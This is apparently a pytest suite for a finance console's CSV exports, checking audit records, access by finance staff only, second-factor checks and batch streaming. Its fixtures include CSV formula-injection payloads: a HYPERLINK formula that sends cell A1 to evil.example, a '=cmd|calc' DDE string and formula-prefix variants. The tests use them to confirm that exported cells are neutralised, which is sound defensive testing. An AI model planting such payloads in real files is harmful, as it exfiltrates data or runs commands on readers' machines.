"""Exports: a file that finance takes out is streamed, opened as what it says, and on the record before and after (S60)."""

import csv
import hashlib
import io
from datetime import timedelta
from typing import Any
from uuid import uuid4
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from sqlalchemy.exc import IntegrityError

from console import export_files, exports
from console.access import Member
from console.csv_text import Amount, lines, text
from console.exports import BATCH_ROWS, Leaving, parts_of
from ledger.database import in_batches, transaction
from ledger.errors import WrongState
from ledger.exports import begin_export, only_export
from ledger.factors import note_shown
from tests import lives
from tests.authenticator import an_app, enrolled
from tests.refunds import as_administrator
from tests.web.desk import Desk
from tests.web.test_factors import adds_app, code_of
from tests.web.test_reconciliation import discrepancy
from tests.world import Person, build_world

HERE = "/exports/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Tee"),"; \u202e=1'


def taken(desk: Desk, what: str, by: Person | None = None, *, status: int = 200, **fields: Any) -> list[dict[str, str]]:
    """The rows of a file, as a parser reads them that knows nothing of us."""
    content = sent(desk, what, by, status=status, **fields)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sent(desk: Desk, what: str, by: Person | None = None, *, status: int = 200, **fields: Any) -> bytes:
    browser = desk.at(by or desk.world.farah)
    shows(desk, by or desk.world.farah)
    form = browser.get(desk.url(f"{HERE}{what}")).form(f"{HERE}{what}")
    usual = {"reason": "Month end"} | ({"dated": "paid"} if "dated" in form.values else {})
    answer = browser.send(form, **(usual | fields))
    assert answer.status_code == status
    return answer.get_data()


def shows(desk: Desk, person: Person, kind: str = "totp") -> None:
    """The person has just shown something in each session of theirs."""
    desk.at(person)
    app = an_app(desk.stack, person) if kind == "totp" else None
    key = enrolled(desk.stack, person).credential_id if kind == "passkey" else None
    for row in as_administrator(desk.stack, "SELECT session_hash FROM sessions WHERE staff_id = %s", person.staff_id):
        with transaction(desk.stack.console) as db:
            note_shown(
                db, person.staff_id, bytes(row["session_hash"]), kind, signs_money=kind in ("totp", "passkey"), factor_id=app,
                credential_id=key,
            )  # fmt: skip


def around_now(desk: Desk) -> dict[str, Any]:
    """Yesterday to tomorrow, by the database's clock."""
    today = desk.rows("SELECT now() AS at")[0]["at"].astimezone(ZoneInfo("Europe/London")).date()
    return {"since": str(today - timedelta(days=1)), "until": str(today + timedelta(days=1))}


@pytest.fixture
def paid(desk: Desk) -> dict[str, Any]:
    """A return that Priya approved and that was paid."""
    one = lives.propose(desk.stack, desk.world)
    desk.pay(one["intent_id"])
    return dict(one)


def test_the_credit_entries_of_a_period_leave_a_row_for_each_line_and_tax(desk: Desk, paid: dict[str, Any]) -> None:
    (row,) = taken(desk, "credits", **around_now(desk))
    assert (row["refund"], row["step"], row["line"], row["units"]) == (f"R-{paid['number']}", "settle", "TEE", "[0,1)")
    assert (row["gross"], row["net"], row["tax"], row["currency"]) == ("24.90", "20.75", "4.15", "GBP")
    assert (row["paid_minor"], row["paid_currency"], row["left_to_a_person"]) == ("2490", "GBP", "")


def test_a_paid_refund_leaves_with_its_figures_as_numbers_and_its_people(desk: Desk, paid: dict[str, Any]) -> None:
    (row,) = taken(desk, "refunds", **around_now(desk))

    assert (row["amount_minor"], row["amount"], row["currency"]) == (
        str(paid["amount_minor"]),
        f"{paid['amount_minor'] / 100:.2f}",
        "GBP",
    )
    assert (row["refund"], row["state"], row["approved_by"]) == (f"R-{paid['number']}", "succeeded", "Priya Raman")
    assert row["paid_at"]
    assert row["provider_refund"] == f"re_{paid['number']}"
    # By the day of the approval it is the same one; of other days it is none.
    assert [one["refund"] for one in taken(desk, "refunds", dated="approved", **around_now(desk))] == [row["refund"]]
    assert taken(desk, "refunds", since="2020-01-01", until="2020-01-31") == []


def test_the_customer_leaves_as_initials(desk: Desk, paid: dict[str, Any]) -> None:
    content = sent(desk, "refunds", **around_now(desk)).decode()

    assert '"I. B."' in content or '"I. ' in content
    name = desk.rows("SELECT name, email FROM customers WHERE merchant_id = :m")[0]
    assert name["name"] not in content
    assert name["email"] not in content


def test_a_hostile_name_of_a_product_and_a_customer_is_text_and_the_sum_still_a_sum(
    desk: Desk, paid: dict[str, Any]
) -> None:
    as_administrator(desk.stack, "UPDATE cases SET summary = %s", HOSTILE)
    as_administrator(desk.stack, "UPDATE customers SET name = '=cmd|calc @home'")
    as_administrator(desk.stack, "UPDATE intents SET provider_reference = '-2+3'")

    (row,) = taken(desk, "refunds", **around_now(desk))

    assert row["what"] == "'" + HOSTILE.replace("\u202e", "U+202E")
    assert row["customer"] == "'=. @."
    assert row["provider_reference"] == "'-2+3"
    assert int(row["amount_minor"]) == paid["amount_minor"]


def test_what_a_person_wrote_of_a_discrepancy_is_text_and_its_difference_a_number(desk: Desk) -> None:
    found = discrepancy(desk, refund_ref="@SUM(A1)")
    farah = desk.at(desk.world.farah)
    resolve = farah.get(desk.url(f"/reconciliation/discrepancies/{found}")).form("/resolution")
    farah.submit(resolve, code="written_off", reason="+44 said so;=1")

    run_id = desk.rows("SELECT run_id FROM reconciliation_runs WHERE merchant_id = :m")[0]["run_id"]
    (row,) = taken(desk, "discrepancies", run=str(run_id))

    assert (row["at_provider"], row["resolution"]) == ("'@SUM(A1)", "'+44 said so;'=1")
    assert (row["ours_minor"], row["theirs_minor"], row["difference_minor"]) == ("2490", "2497", "7")
    assert (row["resolved_as"], row["resolved_by"]) == ("written_off", "Farah Osei")


def test_the_trail_leaves_oldest_first_with_its_hashes_and_its_filters(desk: Desk, paid: dict[str, Any]) -> None:
    found = taken(desk, "trail", **around_now(desk))
    events = desk.rows("SELECT number, kind, hash FROM events WHERE merchant_id = :m ORDER BY event_id")
    decided = taken(desk, "trail", kind="decisions", person=str(desk.world.priya.staff_id), **around_now(desk))

    assert [(int(row["event"]), row["kind"], row["hash"]) for row in found] == [
        (event["number"], event["kind"], event["hash"].hex()) for event in events
    ]
    assert [row["kind"] for row in decided] == ["intent.approved"]


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "=",
    "--",
    "'=1"[1:],
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_begins_a_formula_gets_an_apostrophe(formula: str) -> None:
    cell = text(formula)
    assert cell.startswith(("'", "U+")), cell


@pytest.mark.parametrize("plain", ["Tee", "a=b", "5-10", "", "'quoted'", "a;b", "x, -5", "R-1042"])
def test_what_begins_none_stays_as_it_is(plain: str) -> None:
    assert text(plain) == plain


def test_numbers_of_ours_stay_numbers_negative_ones_too() -> None:
    line = lines([[-1230, Amount(-1230, "GBP"), Amount(5, "JPY"), Amount(1, "XXX"), None]], ZoneInfo("UTC"))
    assert line == b'"-1230","-12.30","5","",""\r\n'


def test_who_takes_what_is_on_the_record_with_count_and_digest(desk: Desk, paid: dict[str, Any]) -> None:
    period = around_now(desk)
    content = sent(desk, "trail", reason="Audit, card 4242 4242 4242 4242", kind="decisions", **period)

    (one,) = desk.rows("SELECT * FROM exports WHERE merchant_id = :m")
    (end,) = desk.rows("SELECT * FROM export_ends WHERE merchant_id = :m")
    assert (one["what"], one["filter"], one["staff_id"]) == (
        "trail",
        {"kind": "decisions", **period},
        desk.world.farah.staff_id,
    )
    assert "4242 4242" not in one["reason"]
    assert (end["export_id"], end["rows"]) == (one["export_id"], content.count(b"\r\n") - 1)
    assert bytes(end["sha256"]) == hashlib.sha256(content).digest()
    listed = desk.at(desk.world.farah).get(desk.url(HERE)).text
    assert "Farah Osei" in listed
    assert f"from {period['since']} to {period['until']} what decisions" in listed
    assert bytes(end["sha256"]).hex()[:12] in listed
    # A manager does not export, and sees who did.
    assert bytes(end["sha256"]).hex()[:12] in desk.at(desk.world.mara).get(desk.url("/trail/")).text


def leaving(desk: Desk, app: Flask, source: export_files.Source) -> Leaving:
    world, farah = desk.world, desk.world.farah
    with transaction(desk.stack.console, desk.world.merchant_id) as db:
        export_id = begin_export(db, desk.world.merchant_id, desk.world.farah.staff_id, "trail", {}, "a test")
    member = Member(
        farah.staff_id,
        farah.name,
        farah.email,
        "finance",
        world.merchant_id,
        world.slug,
        "Harbour",
        "Europe/London",
        False,
    )
    return Leaving(app, member, desk.rows("SELECT now() AS at")[0]["at"], export_id, source)


def whole_trail(desk: Desk) -> export_files.Source:
    at = desk.rows("SELECT now() AS at")[0]["at"]
    return export_files.trail(desk.world.merchant_id, at - timedelta(days=2), at + timedelta(days=2), "", ())


def test_the_record_stands_before_the_first_byte_and_has_no_end_for_a_file_that_is_broken_off(
    desk: Desk, app: Flask, paid: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "BATCH_ROWS", 2)
    parts = parts_of(desk.stack.console, leaving(desk, app, whole_trail(desk)))

    assert next(parts)
    assert (desk.count("exports"), desk.count("export_ends")) == (1, 0)
    parts.close()

    assert desk.count("export_ends") == 0
    assert "broken off, or leaving still" in desk.at(desk.world.farah).get(desk.url(HERE)).text
    # The place is free again.
    assert taken(desk, "trail", **around_now(desk))


def test_the_last_bytes_leave_after_the_end_is_on_the_record(
    desk: Desk, app: Flask, paid: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "BATCH_ROWS", 2)
    seen = [desk.count("export_ends") for _ in parts_of(desk.stack.console, leaving(desk, app, whole_trail(desk)))]

    assert seen[-1] == 1
    assert set(seen[:-1]) == {0}
    assert len(seen) > 2


def test_while_one_file_leaves_another_waits_and_says_so(desk: Desk, paid: dict[str, Any]) -> None:
    farah = desk.at(desk.world.farah)
    shows(desk, desk.world.farah)
    form = farah.get(desk.url(f"{HERE}trail")).form(f"{HERE}trail")
    with transaction(desk.stack.console, desk.world.merchant_id, read_only=True) as db:
        only_export(db, desk.world.merchant_id)
        answer = farah.send(form, reason="Month end", **around_now(desk))
        with transaction(desk.stack.console, desk.world.merchant_id) as other, pytest.raises(WrongState):
            only_export(other, desk.world.merchant_id)

    assert answer.status_code == 409
    assert "Another file of this shop is leaving just now" in answer.get_data(as_text=True)
    assert desk.count("exports") == 0
    assert farah.send(form, reason="Month end", **around_now(desk)).status_code == 200


MANY = 49_900


def many_events(desk: Desk) -> None:
    """Events in a number that no test would live through, each in its own case's place: copies of the first one's body."""
    first = desk.rows("SELECT case_id FROM cases WHERE merchant_id = :m")[0]["case_id"]
    with desk.stack.admin() as db:
        db.execute("SET session_replication_role = replica")
        db.execute(
            "INSERT INTO events (merchant_id, case_id, number, event_id, kind, actor, at, body, previous_number,"
            " previous_hash, hash) SELECT %s, %s, 1000 + n,"
            " (lpad(to_hex(extract(epoch FROM clock_timestamp())::bigint * 1000), 12, '0')"
            " || '7000' || '8' || lpad(to_hex(n), 15, '0'))::uuid, 'case.due_set', 'system', now(),"
            " %s::jsonb, 999 + n, sha256('x'), sha256(n::text::bytea) FROM generate_series(1, %s) n",
            [
                desk.world.merchant_id, first,
                '{"from": "2026-06-09T23:30:00+00:00", "to": "2026-06-10T23:30:00+00:00"}', MANY,
            ],
        )  # fmt: skip


def test_fifty_thousand_rows_leave_a_batch_at_a_time_through_a_cursor_of_the_server(
    desk: Desk, paid: dict[str, Any], app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    many_events(desk)
    fetched: list[int] = []
    real = in_batches

    def counted(*args: Any, **values: Any) -> Any:
        for batch in real(*args, **values):
            fetched.append(len(batch))
            yield batch

    monkeypatch.setattr(exports, "in_batches", counted)
    digest, sizes, ahead = hashlib.sha256(), [], []
    last = b""
    parts = parts_of(desk.stack.console, leaving(desk, app, whole_trail(desk)))
    for part in parts:
        digest.update(part)
        sizes.append(len(part))
        last = part
        # Of what was fetched, all but the batch that is written next has left already.
        ahead.append(len(fetched) - len(sizes))
        if len(sizes) == 1:
            doing = as_administrator(
                desk.stack, "SELECT query FROM pg_stat_activity WHERE state = 'idle in transaction' AND query LIKE 'FETCH%%'"
                " AND datname = current_database()",
            )  # fmt: skip
            assert [row["query"] for row in doing] == [f'FETCH FORWARD {BATCH_ROWS} FROM "batches"']

    (end,) = desk.rows("SELECT rows, sha256 FROM export_ends WHERE merchant_id = :m")
    assert end["rows"] == sum(fetched) > MANY
    assert bytes(end["sha256"]) == digest.digest()
    assert max(fetched) == BATCH_ROWS
    # Said in the merchant's days, although the request that asked for it is over.
    assert b"Due on 11 Jun" in last
    assert b"before on 10 Jun" in last
    assert set(ahead) <= {0, -1}
    assert len(sizes) == len(fetched) + 1 >= MANY // BATCH_ROWS
    assert max(sizes) < 1024 * BATCH_ROWS


def test_more_rows_than_may_leave_are_refused_whole(
    desk: Desk, paid: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_ROWS", 3)

    page = sent(desk, "trail", status=422, **around_now(desk)).decode()

    assert "more than 3 rows: choose fewer days" in page
    assert "<title>Error: " in page
    assert desk.count("exports") == 0


def test_a_file_that_grew_while_it_was_read_ends_without_an_end(
    desk: Desk, app: Flask, paid: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_ROWS", 3)
    with pytest.raises(RuntimeError, match="grew past"):
        list(parts_of(desk.stack.console, leaving(desk, app, whole_trail(desk))))
    assert desk.count("export_ends") == 0


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ({"reason": "  "}, "Write why it is taken out"),
        ({"since": "2026-02-01", "until": "2026-01-01"}, "ends after it begins"),
        ({"since": "2020-01-01", "until": "2026-01-01"}, "covers at most 400 days"),
        ({"since": "soon"}, "There is a problem"),
    ],
)
def test_a_form_that_says_too_little_is_shown_again(shared_desk: Desk, fields: dict[str, Any], says: str) -> None:
    page = sent(shared_desk, "refunds", status=422, **fields).decode()
    assert says in page
    assert shared_desk.count("exports") == 0


def test_the_form_begins_with_the_last_whole_month_or_with_what_the_address_names(shared_desk: Desk) -> None:
    farah = shared_desk.at(shared_desk.world.farah)
    form = farah.get(shared_desk.url(f"{HERE}refunds")).form(f"{HERE}refunds")
    since, until = form.values["since"], form.values["until"]
    assert since[:7] == until[:7]
    assert since.endswith("-01")
    named = farah.get(shared_desk.url(f"{HERE}trail?since=2026-03-01&until=2026-03-02&kind=money&person=nobody")).form(
        f"{HERE}trail"
    )
    assert (named.values["since"], named.values["until"]) == ("2026-03-01", "2026-03-02")


@pytest.mark.parametrize("who", ["priya", "mara", "rita", "ada"])
def test_nobody_but_finance_takes_a_file_out(desk: Desk, paid: dict[str, Any], who: str) -> None:
    person = getattr(desk.world, who)
    for path in (HERE, f"{HERE}refunds"):
        assert desk.at(person).ask("GET", desk.url(path)).status_code == 403
    token = desk.at(person).get(desk.url("/sessions")).form("end-all").values["csrf_token"]
    data = {"csrf_token": token, "operation": uuid4().hex, "reason": "Month end", "dated": "paid", **around_now(desk)}
    assert desk.at(person).ask("POST", desk.url(f"{HERE}refunds"), data=data).status_code == 403
    assert desk.count("exports") == 0


def test_the_database_takes_the_record_from_finance_alone(desk: Desk) -> None:
    with (
        pytest.raises(IntegrityError, match="finance exports"),
        transaction(desk.stack.console, desk.world.merchant_id) as db,
    ):
        begin_export(db, desk.world.merchant_id, desk.world.mara.staff_id, "refunds", {}, "Month end")
    with transaction(desk.stack.console, desk.world.merchant_id) as db:
        begun = begin_export(db, desk.world.merchant_id, desk.world.farah.staff_id, "refunds", {}, "Month end")
    assert [row["export_id"] for row in desk.rows("SELECT export_id FROM exports WHERE merchant_id = :m")] == [begun]


def test_nothing_of_another_merchant_leaves(desk: Desk, paid: dict[str, Any]) -> None:
    lantern = build_world(desk.stack, "lantern")
    neema = desk.at(lantern.farah)
    period = around_now(desk)
    assert neema.ask("GET", desk.url(f"{HERE}refunds")).status_code == 404
    for what in ("refunds", "trail"):
        form = neema.get(desk.url(f"{HERE}{what}", lantern)).form(f"{HERE}{what}")
        shows(desk, lantern.farah)
        dated = {"dated": "paid"} if what == "refunds" else {}
        content = neema.send(form, reason="Month end", **period, **dated).get_data()
        assert content.count(b"\r\n") == 1
        assert form.action.startswith("/lantern/")
    discrepancy(desk)
    run_id = desk.rows("SELECT run_id FROM reconciliation_runs WHERE merchant_id = :m")[0]["run_id"]
    form = neema.get(desk.url(f"{HERE}discrepancies", lantern)).form(f"{HERE}discrepancies")
    assert neema.send(form, reason="Month end", run=str(run_id)).status_code == 422


def test_each_file_takes_a_factor_that_was_just_shown_and_the_password_is_none(
    desk: Desk, paid: dict[str, Any]
) -> None:
    farah, person = desk.at(desk.world.farah), desk.world.farah
    form = farah.get(desk.url(f"{HERE}trail")).form(f"{HERE}trail")
    wanted = {"reason": "Month end", **around_now(desk)}

    for kind in ("", "password", "recovery"):
        if kind:
            shows(desk, person, kind)
        refused = farah.submit(form, status=422, **wanted)
        assert "Show a code of your app or your passkey first" in refused.text
    shows(desk, person, "passkey")
    assert farah.send(form, **wanted).status_code == 200
    assert farah.send(form, **wanted).status_code == 422
    assert desk.count("exports") == 1


def test_a_code_of_the_app_pays_in_the_form_itself_and_a_wrong_one_does_not(desk: Desk, paid: dict[str, Any]) -> None:
    farah = desk.at(desk.world.farah)
    secret, _ = adds_app(desk, farah)
    page = farah.get(desk.url(f"{HERE}trail"))
    form, wanted = page.form(f"{HERE}trail"), {"reason": "Month end", **around_now(desk)}
    assert "Code from your app" in page.text

    wrong = farah.submit(form, status=422, code="000000", **wanted)
    assert "That code is not right" in wrong.text
    assert 'value="000000"' not in wrong.html
    assert farah.send(form, code=code_of(secret), **wanted).status_code == 200
    assert desk.count("exports") == 1
    (one,) = desk.rows("SELECT filter FROM exports WHERE merchant_id = :m")
    assert "code" not in one["filter"]
